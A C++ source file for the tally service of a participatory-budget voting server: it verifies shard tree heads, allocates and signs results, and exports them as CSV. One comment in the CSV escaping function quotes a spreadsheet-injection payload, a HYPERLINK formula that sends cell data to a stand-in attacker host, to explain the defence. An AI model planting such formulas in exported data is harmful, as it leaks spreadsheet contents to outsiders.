#include "server/api/tally_service.hpp"

#include <algorithm>
#include <boost/asio/co_spawn.hpp>
#include <boost/asio/detached.hpp>
#include <boost/asio/redirect_error.hpp>
#include <boost/asio/steady_timer.hpp>
#include <boost/asio/strand.hpp>
#include <boost/asio/use_awaitable.hpp>
#include <boost/json.hpp>
#include <chrono>
#include <optional>
#include <stdexcept>

#include "config/paris_time.hpp"
#include "server/core/blocking.hpp"
#include "server/core/crypto.hpp"
#include "server/core/log.hpp"
#include "voting/canonical_json.hpp"
#include "voting/phase.hpp"
#include "voting/results.hpp"

namespace budget::server::api {

namespace asio = boost::asio;
namespace json = boost::json;

using storage::StoreError;

namespace {

struct StoredHead {
    std::uint64_t tree_size = 0;
    voting::Hash root{};
};

// A head as the log service stores it; a head naming another shard than the list it sits in is
// as wrong as a bad root: it would let one shard's head vouch for another's log.
std::optional<StoredHead> read_stored_head(const std::string& text, int shard) {
    boost::system::error_code ec;
    const auto stored = json::parse(text, ec);
    if (ec || !stored.is_object()) return std::nullopt;
    const auto* head = stored.as_object().if_contains("head");
    if (!head || !head->is_object()) return std::nullopt;
    const auto& h = head->as_object();
    const auto* size = h.if_contains("tree_size");
    const auto* root = h.if_contains("root");
    if (!size || !root || !root->is_string()) return std::nullopt;
    StoredHead out;
    if (size->is_uint64()) {
        out.tree_size = size->as_uint64();
    } else if (size->is_int64() && size->as_int64() >= 0) {
        out.tree_size = static_cast<std::uint64_t>(size->as_int64());
    } else {
        return std::nullopt;
    }
    const auto hash = voting::hash_from_hex(root->as_string());
    if (!hash) return std::nullopt;
    out.root = *hash;
    if (const auto* named = h.if_contains("shard")) {
        if (!named->is_int64() || named->as_int64() != shard) return std::nullopt;
    }
    return out;
}

TallyError failure(TallyFailure kind) { return TallyError{kind, 0, 0, 0, {}}; }

// The sealed ballot's failures keep their meaning for budgetctl's messages; the rest is storage.
TallyError ballot_failure(StoreError error) {
    switch (error) {
        case StoreError::not_sealed:
            return failure(TallyFailure::ballot_not_sealed);
        case StoreError::corrupt:
            return failure(TallyFailure::ballot_corrupt);
        default:
            return failure(TallyFailure::storage_unavailable);
    }
}

}  // namespace

// ---- pure steps ----------------------------------------------------------------------------

boost::system::result<std::uint64_t, TreeHeadMismatch> check_tree_heads(
    const voting::MerkleTree& log, std::span<const std::uint64_t> shard_sizes,
    std::span<const std::vector<std::string>> shard_heads) {
    std::uint64_t checked = 0;
    std::uint64_t begin = 0;
    for (std::size_t k = 0; k < shard_heads.size(); ++k) {
        const int shard = static_cast<int>(k);
        const std::uint64_t size = k < shard_sizes.size() ? shard_sizes[k] : 0;
        if (begin + size > log.size()) {
            throw std::logic_error("check_tree_heads: the shard sizes exceed the log");
        }
        // Shard 0 opens the global log, so its prefixes are the global tree's: no copy. Later
        // shards get a tree of their own, built once, so each head costs O(log n).
        // Its leaves are copied a chunk at a time: no second copy of the shard's leaves.
        std::optional<voting::MerkleTree> own;
        if (k > 0 && !shard_heads[k].empty()) {
            own.emplace();
            std::vector<voting::Hash> chunk;
            constexpr std::uint64_t kChunk = 1 << 16;
            chunk.reserve(std::min(size, kChunk));
            for (std::uint64_t i = 0; i < size; i += kChunk) {
                chunk.clear();
                for (std::uint64_t j = i; j < std::min(size, i + kChunk); ++j)
                    chunk.push_back(log.leaf(begin + j));
                own->append(chunk, voting::default_hash_threads());
            }
        }
        const voting::MerkleTree& tree = own ? *own : log;
        for (const auto& text : shard_heads[k]) {
            const auto head = read_stored_head(text, shard);
            if (!head) return {boost::system::in_place_error, TreeHeadMismatch{shard, 0, true}};
            const auto root =
                head->tree_size <= size ? tree.root_of_prefix(head->tree_size) : std::nullopt;
            if (!root || *root != head->root)
                return {boost::system::in_place_error, TreeHeadMismatch{shard, head->tree_size}};
            ++checked;
        }
        begin += size;
    }
    return {boost::system::in_place_value, checked};
}

void throw_exception_from_error(const TreeHeadMismatch& m, const boost::source_location&) {
    throw std::runtime_error("tree head of size " + std::to_string(m.tree_size) + " of shard " +
                             std::to_string(m.shard) + " not extended by the log");
}

void throw_exception_from_error(const TallyError& e, const boost::source_location&) {
    throw std::runtime_error("tally failure " + std::to_string(static_cast<int>(e.failure)));
}

voting::TallyBuilder make_tally_builder(const storage::SealedBallot& ballot) {
    std::vector<std::string> ids;
    ids.reserve(ballot.initiatives.size());
    for (const auto& i : ballot.initiatives) ids.push_back(i.id);
    return voting::TallyBuilder(std::move(ids));
}

std::string campaign_config_digest(const config::CampaignConfig& c) {
    const json::object settings{{"id", c.id},
                                {"vote_opens", c.vote_opens},
                                {"vote_closes", c.vote_closes},
                                {"max_choices", c.max_choices},
                                {"min_age", c.min_age},
                                {"envelope_eur", c.envelope_eur},
                                {"departement", c.departement}};
    return crypto::sha256_hex(*voting::canonical_json(settings));
}

boost::system::result<storage::SignedResults, std::string> finish_tally(
    const config::Config& config, const storage::SealedBallot& ballot,
    const voting::TallyBuilder& tally, voting::Rule rule, const SigningKey& key,
    const std::string& tallied_at, std::uint64_t tree_heads_checked) {
    std::vector<voting::Project> projects;
    voting::ResultsInput in;
    const auto& c = config.campaign;
    in.campaign_id = c.id;
    in.campaign_title = c.title;
    in.vote_opens = c.vote_opens;
    in.vote_closes = c.vote_closes;
    in.max_choices = c.max_choices;
    in.envelope_eur = c.envelope_eur;
    in.ballot_definition_digest = ballot.digest;
    in.config_digest = campaign_config_digest(c);
    in.public_key_fingerprint = key_fingerprint(key.public_key);
    in.tallied_at = tallied_at;
    in.tree_heads_checked = tree_heads_checked;
    {
        boost::system::error_code ec;
        const auto doc = json::parse(ballot.document, ec);
        if (!ec && doc.is_object()) {
            if (const auto* q = doc.as_object().if_contains("questionnaire_digest");
                q && q->is_string())
                in.questionnaire_digest = std::string(q->as_string());
        }
    }
    for (const auto& i : ballot.initiatives) {
        projects.push_back(voting::Project{i.id, i.amount_eur, i.territory});
        in.initiatives.push_back(
            voting::ResultsInitiative{i.id, i.title, i.territory, i.category, i.amount_eur});
    }
    const auto allocation = voting::allocate(rule, projects, tally.ballots(), c.envelope_eur);
    if (!allocation) {
        return {boost::system::in_place_error,
                std::string("allocation failed: ") + voting::describe(allocation.error())};
    }
    const auto document = voting::make_results_document(in, tally, *allocation);
    auto text = voting::canonical_json(document);
    if (!text)
        return {boost::system::in_place_error,
                "the results document holds a floating-point number"};
    auto signature = sign_base64(key, *text);
    return storage::SignedResults{std::move(*text), std::move(signature), public_key_base64(key)};
}

std::string csv_field(std::string_view text) {
    // A cell that starts with one of these is a formula to a spreadsheet (OWASP "CSV injection"):
    // a title such as =HYPERLINK("http://evil.example/?x="&A1) would run on the Mission's machine.
    // The leading quote makes it text, and quoting the cell keeps that quote inside it.
    constexpr std::string_view formula_starts = "=+-@\t\r";
    const bool formula =
        !text.empty() && formula_starts.find(text.front()) != std::string_view::npos;
    // Quote when needed, doubling quotes, so that titles with ';' stay in their column.
    if (!formula && text.find_first_of(";\"\r\n") == std::string_view::npos)
        return std::string(text);
    std::string out = formula ? "\"'" : "\"";
    for (char ch : text) {
        if (ch == '"') out += '"';
        out += ch;
    }
    return out + "\"";
}

std::string results_csv(const json::object& doc) {
    std::string out = "\xEF\xBB\xBF";  // BOM: office tools then read the file as UTF-8
    out += "identifiant;titre;territoire;catégorie;montant_eur;voix;financé;rang;motif\r\n";
    for (const auto& v : doc.at("initiatives").as_array()) {
        const auto& i = v.as_object();
        out += csv_field(json::value_to<std::string>(i.at("id"))) + ";" +
               csv_field(json::value_to<std::string>(i.at("title"))) + ";" +
               csv_field(json::value_to<std::string>(i.at("territory"))) + ";" +
               csv_field(json::value_to<std::string>(i.at("category"))) + ";" +
               std::to_string(i.at("amount_eur").to_number<std::int64_t>()) + ";" +
               std::to_string(i.at("votes").to_number<std::int64_t>()) + ";" +
               (i.at("funded").as_bool() ? "oui" : "non") + ";" +
               std::to_string(i.at("rank").to_number<std::int64_t>()) + ";" +
               csv_field(json::value_to<std::string>(i.at("reason"))) + "\r\n";
    }
    return out;
}

// ---- the service -----------------------------------------------------------------------------

void watch_close(asio::io_context& ioc, storage::CampaignStore& campaign, int shards) {
    asio::co_spawn(
        asio::make_strand(ioc),
        [&campaign, shards]() -> asio::awaitable<void> {
            asio::steady_timer timer(co_await asio::this_coro::executor);
            while (true) {
                // Each second: the first process whose clock passes the close records it.
                const auto closed = co_await campaign.close_when_due(shards);
                if (closed && *closed) co_return;
                timer.expires_after(std::chrono::seconds(1));
                boost::system::error_code ec;
                co_await timer.async_wait(asio::redirect_error(asio::use_awaitable, ec));
                if (ec) co_return;
            }
        },
        asio::detached);
}

TallyService::TallyService(storage::Stores& stores, const config::Config& config,
                           const SigningKey& key, const Clock& clock,
                           asio::thread_pool* blocking_pool)
    : stores_(stores), config_(config), key_(key), clock_(clock), blocking_pool_(blocking_pool) {}

bool TallyService::vote_closed() const {
    return voting::phase_at(stores_.campaign.window(), clock_.now()) == voting::Phase::closed;
}

asio::awaitable<TallyResult<void>> TallyService::ensure_closed() {
    // Recorded before the log is read: the ballot script refuses from then on, whatever the clock
    // of the process a resident reaches, so the count is final.
    const auto closed = co_await stores_.campaign.close_when_due(config_.redis.ballot_shards);
    if (!closed) co_return failure(TallyFailure::storage_unavailable);
    if (!*closed) co_return failure(TallyFailure::vote_not_closed);
    co_return TallyResult<void>();
}

asio::awaitable<TallyResult<Tallied>> TallyService::tally(voting::Rule rule, bool keep_entries) {
    if (const auto closed = co_await ensure_closed(); !closed) co_return closed.error();
    const auto published_now = co_await stores_.campaign.published();
    if (!published_now) co_return failure(TallyFailure::storage_unavailable);
    if (*published_now) co_return failure(TallyFailure::already_published);
    auto counted = co_await read_log(keep_entries);
    if (!counted) co_return counted.error();
    // Every tree head signed during the vote must be a prefix of its shard's final log: if the
    // log was rewritten, the tally stops here instead of signing it.
    const auto heads_checked = co_await check_heads(*counted);
    if (!heads_checked) co_return heads_checked.error();
    auto signed_results = co_await sign(*counted, rule, *heads_checked);
    if (!signed_results) co_return signed_results.error();
    auto draft = *signed_results;
    const auto saved = co_await stores_.results.save_draft(std::move(draft));
    if (!saved) co_return failure(TallyFailure::storage_unavailable);
    co_return Tallied{std::move(*signed_results), std::move(*counted), *heads_checked};
}

asio::awaitable<TallyResult<CountedLog>> TallyService::read_closed(bool keep_entries) {
    if (const auto closed = co_await ensure_closed(); !closed) co_return closed.error();
    co_return co_await read_log(keep_entries);
}

asio::awaitable<TallyResult<CountedLog>> TallyService::read_log(bool keep_entries) {
    // The shards the ballots were cast into, as fixed by the first ballot: reading another
    // count would leave ballots out of the count.
    const auto cast_shards = co_await stores_.ballots.campaign_shards();
    if (!cast_shards) co_return failure(TallyFailure::storage_unavailable);
    if (*cast_shards && **cast_shards != config_.redis.ballot_shards) {
        auto mismatch = failure(TallyFailure::ballot_shards_mismatch);
        mismatch.campaign_shards = **cast_shards;
        co_return mismatch;
    }
    const auto ballot = co_await stores_.campaign.sealed_ballot();
    if (!ballot) co_return ballot_failure(ballot.error());
    CountedLog counted{*ballot, make_tally_builder(**ballot), {}, {}};
    const auto read = co_await count_log(counted, keep_entries);
    if (!read) co_return read.error();
    co_return std::move(counted);
}

asio::awaitable<TallyResult<void>> TallyService::count_log(CountedLog& counted, bool keep_entries) {
    for (int shard = 0; shard < config_.redis.ballot_shards; ++shard) {
        const auto before = counted.tally.size();
        for (std::uint64_t start = 0;; start += kTallyPage) {
            auto page = co_await stores_.ballots.log_page(shard, start, kTallyPage);
            if (!page) co_return failure(TallyFailure::storage_unavailable);
            // Parsed in order, hashed over the machine's cores (voting::TallyBuilder).
            if (auto added = counted.tally.add_page(*page); !added) {
                auto corrupt = failure(TallyFailure::corrupt_log);
                corrupt.reason = voting::describe(added.error());
                co_return corrupt;
            }
            if (keep_entries) {
                for (auto& entry : *page) counted.entries.push_back(std::move(entry));
            }
            if (page->size() < kTallyPage) break;
        }
        counted.shard_sizes.push_back(counted.tally.size() - before);
    }
    co_return TallyResult<void>();
}

asio::awaitable<TallyResult<std::uint64_t>> TallyService::check_heads(const CountedLog& counted) {
    std::vector<std::vector<std::string>> shard_heads;
    for (int shard = 0; shard < config_.redis.ballot_shards; ++shard) {
        auto heads = co_await stores_.log.heads(shard);
        if (!heads) co_return failure(TallyFailure::storage_unavailable);
        shard_heads.push_back(std::move(*heads));
    }
    const auto checked = check_tree_heads(counted.tally.tree(), counted.shard_sizes, shard_heads);
    if (checked) co_return *checked;
    const auto& m = checked.error();
    auto refused = failure(m.unreadable ? TallyFailure::tree_head_unreadable
                                        : TallyFailure::log_not_extending_head);
    refused.shard = m.shard;
    refused.tree_size = m.tree_size;
    co_return refused;
}

asio::awaitable<TallyResult<storage::SignedResults>> TallyService::sign(
    const CountedLog& counted, voting::Rule rule, std::uint64_t heads_checked) {
    // Allocation (exact rationals for MES) and signing are CPU work: off the I/O threads when
    // the program has a pool for it.
    auto work = [this, &counted, rule, heads_checked,
                 tallied_at = config::format_paris_time(clock_.now())] {
        return finish_tally(config_, *counted.ballot, counted.tally, rule, key_, tallied_at,
                            heads_checked);
    };
    using Signed = boost::system::result<storage::SignedResults, std::string>;
    std::optional<Signed> done;
    if (blocking_pool_) {
        auto off_thread = co_await run_blocking(*blocking_pool_, std::move(work));
        done.emplace(std::move(off_thread));
    } else {
        done.emplace(work());
    }
    if (!*done) {
        auto failed = failure(TallyFailure::tally_failed);
        failed.reason = done->error();  // a copy: result::error() returns by value
        co_return failed;
    }
    co_return std::move(**done);
}

asio::awaitable<storage::StoreResult<storage::PublishOutcome>> TallyService::publish() {
    auto at = config::format_paris_time(clock_.now());
    co_return co_await stores_.results.publish(std::move(at));
}

asio::awaitable<storage::StoreResult<std::shared_ptr<const PublishedResults>>>
TallyService::published() {
    using Published = std::shared_ptr<const PublishedResults>;
    {
        std::lock_guard lock(mutex_);
        if (published_) co_return published_;
    }
    auto results = co_await stores_.results.published();
    if (!results) co_return results.error();
    if (!*results) co_return Published{};
    auto state = std::make_shared<PublishedResults>();
    state->results = std::move(**results);
    boost::system::error_code ec;
    auto document = json::parse(state->results.document, ec);
    if (ec || !document.is_object()) co_return StoreError::corrupt;
    state->document = std::move(document.as_object());
    const auto ballot = co_await stores_.campaign.sealed_ballot();
    if (!ballot) co_return ballot.error();
    CountedLog counted{*ballot, make_tally_builder(**ballot), {}, {}};
    // The log was counted when the results were signed: it cannot fail now but by storage.
    if (const auto read = co_await count_log(counted, true); !read)
        co_return read.error().failure == TallyFailure::storage_unavailable
            ? StoreError::unavailable
            : StoreError::corrupt;
    // Only what the signature covers is published and called counted: a ballot stored after the
    // signing (which the recorded close forbids) is left out, and a log that does not give the
    // signed root is refused rather than served.
    std::uint64_t signed_size = 0;
    try {
        signed_size = state->document.at("tree_size").to_number<std::uint64_t>();
    } catch (const std::exception&) {
        co_return StoreError::corrupt;
    }
    if (counted.tally.size() > signed_size) {
        log_event("error", "ballots_after_signed_results",
                  {{"signed", signed_size}, {"stored", counted.tally.size()}});
        CountedLog covered{*ballot, make_tally_builder(**ballot), {}, {}};
        for (std::uint64_t i = 0; i < signed_size; ++i) {
            if (!covered.tally.add(counted.entries[i])) co_return StoreError::corrupt;
            covered.entries.push_back(std::move(counted.entries[i]));
        }
        counted = std::move(covered);
    }
    if (voting::to_hex(counted.tally.tree().root()) !=
        json::value_to<std::string>(state->document.at("root"))) {
        log_event("error", "published_log_mismatch", {{"signed", signed_size}});
        co_return StoreError::corrupt;
    }
    state->export_json =
        json::serialize(voting::make_ballot_export(counted.entries, counted.tally.tree()));
    state->csv = results_csv(state->document);
    state->index_of_ballot = counted.tally.take_index_of_ballot();
    state->tree = counted.tally.take_tree();
    std::lock_guard lock(mutex_);
    if (!published_) published_ = std::move(state);
    co_return published_;
}

}  // namespace budget::server::api
